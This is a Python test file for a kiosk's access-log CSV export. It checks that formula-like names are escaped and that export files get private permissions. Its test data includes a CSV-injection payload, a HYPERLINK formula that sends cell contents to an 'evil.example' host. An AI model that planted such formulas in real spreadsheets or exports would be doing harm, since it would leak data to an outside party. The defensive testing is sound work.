"""CSV exports a spreadsheet opens as data: no cell of a name or reason runs as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import stat
from datetime import timezone
from pathlib import Path

import pytest
from conftest import make_settings, run_kiosk
from ui_home import NOW, PIN, fixed_clock, sign_in, wait_until

from db.models import AccessEvent
from kiosk.admin.auth import AdminAuth
from kiosk.context import KioskContext

# OWASP's CSV-injection list: cells starting with these are run by spreadsheets.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def home_with_formula_names(home: Path) -> Path:
    ctx = KioskContext(make_settings(home))
    with ctx.sessions.begin() as session:
        for i, name in enumerate(FORMULAS):
            session.add(AccessEvent(time=NOW, door="front", person_name=name, granted=False, probability=0.1 * i, reason=name, recogniser="face"))
    AdminAuth(ctx.sessions).set_secret("admin", PIN, actor="admin")
    ctx.engine.dispose()
    return home


def formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]


def test_cli_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    home = home_with_formula_names(tmp_path / "home")
    proc = run_kiosk(["audit", "--format", "csv"], home)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout, newline="")))
    # (the captured stdout is read with universal newlines, so the quoted CR cell comes back as LF)
    assert [r["person"] for r in rows] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert formula_cells(rows) == []
    assert rows[0]["probability"] == "0.0"  # numbers stay numbers


def test_admin_export_goes_to_the_private_exports_folder_and_neutralises_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from kiosk.ui.admin_app import AdminApp

    home = home_with_formula_names(tmp_path / "home")
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    app = AdminApp(KioskContext(make_settings(home)), clock=fixed_clock, tz=timezone.utc, poll_seconds=30.0)
    exports = home / "exports"

    async def drive() -> None:
        async with app.run_test(size=(120, 40)) as pilot:
            await sign_in(pilot)
            await pilot.press("f4")
            await wait_until(pilot, lambda: app.current_mode == "audit")
            await pilot.press("e")
            await wait_until(pilot, lambda: exports.is_dir() and list(exports.glob("*.csv")), what="the export")

    asyncio.run(drive())
    assert list(cwd.iterdir()) == []
    export = next(exports.glob("*.csv"))
    assert stat.S_IMODE(os.stat(exports).st_mode) == 0o700 and stat.S_IMODE(os.stat(export).st_mode) == 0o600
    rows = list(csv.DictReader(export.open(newline="")))
    assert sorted(r["person"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert formula_cells(rows) == []
